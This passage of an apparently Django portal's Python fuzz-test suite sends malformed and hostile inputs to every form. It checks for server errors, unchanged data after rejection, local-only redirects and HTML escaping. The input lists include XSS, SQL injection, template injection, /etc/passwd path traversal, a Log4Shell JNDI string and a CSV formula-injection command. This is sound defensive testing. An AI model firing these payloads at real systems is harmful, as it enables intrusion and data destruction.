    Saringan("sanksi:pengaduan_daftar", _saring_pengaduan, "biro", PengaduanFilterForm),
    Saringan("sanksi:ringkasan", _saring_ringkasan, "biro", SaringRingkasanForm),
    Saringan("evaluasi:daftar", _saring_evaluasi, "biro", EvaluasiSaringForm),
    Saringan("evaluasi:siklus_detail", _saring_lokus, "biro", LokusSaringForm),
    Saringan("survei:ombudsman_daftar", _saring_ombudsman, "biro", None),
    Saringan("audit", _saring_audit, "biro", AuditFilterForm),
]


# --- Nilai jahat ---------------------------------------------------------------------------------------

# Muatan yang, bila muncul apa adanya di halaman, berarti escape gagal.
MUATAN_HTML = [
    "<script>alert('fuzz-xss')</script>",
    '"><img src=x onerror=alert("fuzz-xss")>',
    "<svg/onload=alert('fuzz-xss')>",
    "</textarea><script>alert('fuzz-xss')</script>",
]
JAHAT = [
    *MUATAN_HTML,
    "' OR '1'='1' --",
    "1; DROP TABLE akun_pengguna; --",
    "{{ 7*7 }}{% debug %}",
    "../../../../etc/passwd",
    "javascript:alert(1)",
    "${jndi:ldap://contoh.invalid/a}",
    "\x00",
    "a\x00b",
    "\u202e\u200b\ufeff",
    "\r\n\t\x1b[31m",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 👩‍👩‍👧",
    "",
    " ",
    "x" * 100_000,
]
ANGKA = ["-1", "0", "-0", "1e309", "NaN", "Infinity", "3,5", "3.5", "1_000", "٣", "0x10", "2147483648"]
ANGKA += ["99999999999999999999999999", "-9223372036854775809", "1e-999", "+-1", "²", "①", "߃"]
TANGGAL = ["2025-02-30", "0000-00-00", "9999-12-31", "10000-01-01", "31/12/2025", "2025-13-01", "1-1-1"]
TANGGAL += ["2025-01-01T25:61", "1900-01-01", "0001-01-01T00:00"]
UUID = ["00000000-0000-0000-0000-000000000000", "bukan-uuid", "a0eebc99-9c0b-4ef8-bb6d-6bb9bd380a11"]
BERKAS_JAHAT = [
    Berkas("../../../etc/passwd.pdf", b"%PDF-1.4\n<script>alert(1)</script>"),
    Berkas("bukti.pdf", b"MZ\x90\x00 bukan pdf"),
    Berkas("a\x00.pdf", PDF_KECIL),
    Berkas("kosong.pdf", b""),
    Berkas("<img src=x>.csv", b"=cmd|' /C calc'!A0;\x00\xff\xfe"),
]

_teks_acak = st.text(st.characters(codec="utf-8"), max_size=60)
_nilai_jahat = st.one_of(
    st.sampled_from(JAHAT + ANGKA + TANGGAL + UUID),
    _teks_acak,
    st.integers(min_value=-(2**70), max_value=2**70).map(str),
)
_nilai_rusak = st.one_of(
    st.just("HAPUS"),  # field hilang
    _nilai_jahat,
    st.lists(_nilai_jahat, min_size=2, max_size=3),  # daftar sebagai ganti nilai tunggal
    st.sampled_from(BERKAS_JAHAT),
)
_field_tambahan = st.dictionaries(
    st.one_of(
        st.sampled_from(
            ["id", "pk", "is_superuser", "is_staff", "peran", "penyelenggara_id", "status", "code"]
        ),
        st.text(st.characters(codec="utf-8", exclude_characters="\x00"), min_size=1, max_size=12),
    ),
    _nilai_jahat,
    max_size=3,
)


def _kiriman(data_sah: dict, rusak: dict, tambahan: dict) -> dict:
    """Kiriman sah dengan beberapa field dirusak atau dihapus, ditambah field asing."""
    data = {**tambahan, **data_sah, **rusak}
    data = {k: v for k, v in data.items() if not (isinstance(v, str) and v == "HAPUS")}
    return {k: v.unggahan() if isinstance(v, Berkas) else v for k, v in data.items()}


def _muatan_terkirim(data: dict) -> set[str]:
    nilai = [x for v in data.values() for x in (v if isinstance(v, list) else [v])]
    return {m for m in MUATAN_HTML if m in nilai}


def _pesan_galat(respons) -> bool:
    """Pengalihan yang membawa pesan peringatan/galat adalah penolakan (mis. F-02 kembali ke halamannya)."""
    penyimpan = getattr(respons.wsgi_request, "_messages", None)
    antre = getattr(penyimpan, "_queued_messages", [])
    return any(m.level >= messages.WARNING for m in antre)


def _pengalihan_lokal(respons) -> bool:
    tujuan = urlparse(respons["Location"])
    return tujuan.netloc in ("", "testserver") and tujuan.scheme in ("", "http", "https")


@pytest.fixture(autouse=True)
def _cache_bersih():
    cache.clear()
    yield
    cache.clear()


@pytest.mark.parametrize("formulir", FORMULIR, ids=[f.url for f in FORMULIR])
@settings(
    max_examples=CONTOH_PER_FORMULIR,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    database=None,
)
@given(st.data())
def test_formulir_tahan_masukan_jahat(request, client, formulir, data):
    """Tanpa 5xx; kiriman yang ditolak tidak mengubah data; pengalihan lokal; muatan HTML ter-escape."""
    dunia = _dunia(request, formulir)
    kwargs, data_sah = dunia["sah"]
    url = reverse(formulir.url, kwargs=kwargs)
    # Beberapa field saja yang dirusak per contoh: sisanya sah, agar kiriman sampai ke validasi yang lebih
    # dalam (service, batasan basis data) dan tidak berhenti di field wajib pertama yang kosong.
    nama = data.draw(
        st.lists(st.sampled_from(formulir.nama_field(data_sah)), min_size=1, max_size=3, unique=True),
        label="field dirusak",
    )
    rusak = {n: data.draw(_nilai_rusak, label=n) for n in nama}
    kiriman = _kiriman(data_sah, rusak, data.draw(_field_tambahan, label="tambahan"))

    _kirim_dan_periksa(client, dunia, formulir, url, kiriman)


# Nilai yang pernah menjatuhkan portal (NUL ke PostgreSQL; "²" lolos isdigit() tetapi ditolak int()). Dicoba
# di setiap field setiap formulir, tidak diserahkan ke peluang hypothesis.
NILAI_PENJEBAK = ["²", "a\x00b"]


@pytest.mark.parametrize("formulir", FORMULIR, ids=[f.url for f in FORMULIR])
def test_nilai_penjebak_di_setiap_field(request, client, formulir):
    dunia = _dunia(request, formulir)
    kwargs, data_sah = dunia["sah"]
    url = reverse(formulir.url, kwargs=kwargs)
    for nama in formulir.nama_field(data_sah):
        for nilai in NILAI_PENJEBAK:
            _kirim_dan_periksa(client, dunia, formulir, url, _kiriman(data_sah, {nama: nilai}, {}))


def _dunia(request, formulir) -> dict:
    """Penyiapan satu kali per uji (hypothesis memanggil fungsi uji berkali-kali dengan fixture yang sama)."""
    simpanan = request.node.__dict__.setdefault("_dunia_fuzz", {})
    if not simpanan:
        d = Dunia(request)
        kwargs, data_sah = formulir.siapkan(d)
        if formulir.kunci:
            data_sah = {**data_sah, **isian_kunci(formulir.awalan)}
        simpanan["sah"] = kwargs, data_sah
        simpanan["pengguna"] = d.fx(formulir.peran) if formulir.peran else None
    return simpanan


def _kirim_dan_periksa(client, dunia, formulir, url, kiriman) -> None:
    """Kirim satu kiriman dalam savepoint yang dibatalkan, lalu periksa jaminan di docstring modul."""
    with transaction.atomic():
        cache.clear()  # batas kiriman publik dan penguncian tidak terbawa antarcontoh
        if dunia["pengguna"]:
            client.force_login(dunia["pengguna"])
        kecuali = PENOLAKAN_DICATAT.get(formulir.url, frozenset())
        sebelum = potret_basis_data(kecuali)
        kirim = client.get if formulir.metode == "get" else client.post
        r = kirim(url, kiriman, REMOTE_ADDR="203.0.113.9")
        assert r.status_code < 500, r.content[:2000]
        ditolak = r.status_code not in (301, 302, 303) or _pesan_galat(r)
        if ditolak:
            assert potret_basis_data(kecuali) == sebelum, (
                f"kiriman yang ditolak mengubah data ({r.status_code})"
            )
        halaman, muatan = r, _muatan_terkirim(kiriman)
        if r.status_code in (301, 302, 303):
            assert _pengalihan_lokal(r), r["Location"]
            if muatan:
                # Isian yang tersimpan (atau dibawa di sesi) tampil di halaman tujuan: harus ter-escape juga.
                halaman = client.get(r["Location"])
                assert halaman.status_code < 500
        # Hanya HTML: JSON (pratinjau F-01) dikirim sebagai application/json + nosniff dan ditampilkan f01.js
        # lewat textContent, jadi muatan apa adanya di dalam string JSON tidak dieksekusi.
        if halaman.get("Content-Type", "").startswith("text/html"):
            isi = halaman.content.decode(errors="replace")
            for m in muatan:
                assert m not in isi, f"muatan tidak ter-escape: {m}"
        transaction.set_rollback(True)
    client.logout()


# Penolakan yang memang dicatat: kode 2FA salah masuk jejak audit (pengaman terhadap tebakan).
PENOLAKAN_DICATAT = {"akun:dua_faktor_verifikasi": frozenset({"core_jejakaudit"})}

# Kiriman sah yang berhasil menjawab dengan pengalihan, kecuali view yang menjawab di tempat.
BERHASIL_TANPA_PENGALIHAN = {"sanksi:pengaduan_lacak": 200, "evaluasi:f01_pratinjau": 200}


@pytest.mark.parametrize("formulir", FORMULIR, ids=[f.url for f in FORMULIR])
def test_kiriman_sah_berhasil(request, client, formulir):
    """Titik awal fuzz harus kiriman yang sah; bila tidak, setiap perusakan hanya menguji galat yang sama."""
    dunia = _dunia(request, formulir)
    kwargs, data_sah = dunia["sah"]
    if dunia["pengguna"]:
        client.force_login(dunia["pengguna"])
    kirim = client.get if formulir.metode == "get" else client.post
    kiriman = {k: v.unggahan() if isinstance(v, Berkas) else v for k, v in data_sah.items()}
    r = kirim(reverse(formulir.url, kwargs=kwargs), kiriman, REMOTE_ADDR="203.0.113.9")
    harapan = BERHASIL_TANPA_PENGALIHAN.get(formulir.url, 200 if formulir.metode == "get" else 302)
    assert r.status_code == harapan, r.content.decode(errors="replace")[:3000]


# App yang formulirnya belum masuk tabel karena sedang dibangun; hapus dari sini saat ditambahkan ke FORMULIR.
MENYUSUL: tuple[str, ...] = ()  # awalan app yang formulirnya belum masuk tabel (kosong: semua masuk)


def test_setiap_view_formulir_ada_di_tabel():
    """View baru yang menerima POST formulir harus ditambahkan ke FORMULIR (atau ke pengecualian di sini)."""
    tanpa_field = {  # POST tanpa isian formulir (hanya tombol + CSRF) atau bukan formulir pengguna
        "akun:keluar",
        "notifikasi_baca_semua",  # tombol saja; diuji di kaltim_yanlik/tests/test_notifikasi.py
        "akun:dua_faktor_kode_cadangan",  # tombol saja; diuji di akun/tests/test_dua_faktor.py
        "evaluasi:siklus_hitung_ulang",
        "evaluasi:siklus_publikasikan",
        "evaluasi:siklus_tarik_publikasi",  # butuh siklus terbit; alasan diuji di evaluasi/tests
        "evaluasi:selesai_dinilai",
        "evaluasi:finalkan",
        "evaluasi:ajukan",
        "evaluasi:bukti_hapus",
        "dokumen_buat",
        "penghargaan:kriteria_hapus",
        "penghargaan:nominasi_hapus",
        "penghargaan:penilaian_mulai",
        "penghargaan:penilaian_buka_kembali",
        "penghargaan:penerima_kembalikan",
    }
    teruji = {f.url for f in FORMULIR} | tanpa_field

    def telusuri(resolver, ruang=""):
        for p in resolver.url_patterns:
            if hasattr(p, "url_patterns"):
                ns = f"{ruang}{p.namespace}:" if p.namespace else ruang
                if ns.startswith("admin:"):
                    continue
                yield from telusuri(p, ns)
            elif p.name:
                yield f"{ruang}{p.name}", p.callback

    kurang = []
    for nama, view in telusuri(get_resolver()):
        sumber = inspect.getsource(inspect.unwrap(view)) if inspect.isfunction(inspect.unwrap(view)) else ""
        if nama in teruji or nama.startswith(MENYUSUL):
            continue
        if "request.POST" in sumber or "@require_POST" in sumber:
            kurang.append(nama)
    assert not kurang, f"view formulir belum masuk FORMULIR: {kurang}"
